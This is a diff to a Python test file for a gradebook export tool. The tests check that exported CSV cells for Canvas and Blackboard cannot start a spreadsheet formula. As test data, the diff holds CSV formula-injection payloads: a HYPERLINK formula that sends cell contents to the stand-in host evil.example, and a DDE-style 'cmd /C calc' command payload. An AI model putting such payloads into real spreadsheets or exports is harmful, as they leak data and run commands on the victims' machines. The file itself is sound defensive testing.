@@ -102,7 +102,7 @@ def test_gradescope_metadata_with_aliases_cannot_blow_up(tmp_path):
 
 # -- formulas in exported CSV files ---------------------------------------------------------------
 
-HOSTILE_NAMES = {"eve": ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "Eve"),
+HOSTILE_NAMES = {"eve": ("=HYPERLINK(\"http://evil.example/?\"&A1)", "Eve"),
                  "mal": ("@SUM(1+1)*cmd|' /C calc'!A0", "Mal"),
                  "pat": ("+1-2", "-Pat"),
                  "tab": ("\tTab", "\rCarr")}
@@ -138,7 +138,7 @@ def test_no_exported_cell_starts_a_formula(tmp_path, fmt):
         assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
     text = "\n".join(cells)
     if fmt in ("canvas", "blackboard"):
-        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in text
+        assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in text
         assert "'@SUM(1+1)*cmd|' /C calc'!A0" in text
     if fmt in ("canvas", "blackboard"):  # the column's title, given with --column, is a cell too
         assert "'=NNDL()" in cells
